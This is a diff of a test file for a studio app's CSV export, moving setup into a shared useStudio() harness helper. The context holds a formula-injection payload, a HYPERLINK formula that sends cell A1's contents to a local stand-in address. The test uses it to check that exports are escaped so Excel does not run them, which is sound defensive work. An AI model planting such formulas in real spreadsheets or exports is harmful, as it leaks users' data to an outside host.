@@ -4,17 +4,11 @@
  * `'` so Excel shows it instead of running it; rank and total stay plain numbers.
  */
 import { readFileSync } from 'node:fs';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { parseCsv } from '../../studio/src/lib/csv.ts';
-import { login, openPage, startStudio, type Studio } from './harness.ts';
+import { login, openPage, useStudio } from './harness.ts';
 
-let studio: Studio;
-beforeAll(async () => {
-  studio = await startStudio();
-}, 180_000);
-afterAll(async () => {
-  await studio?.close();
-});
+const studio = useStudio();
 
 const FORMULA = '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"Click me")';
 
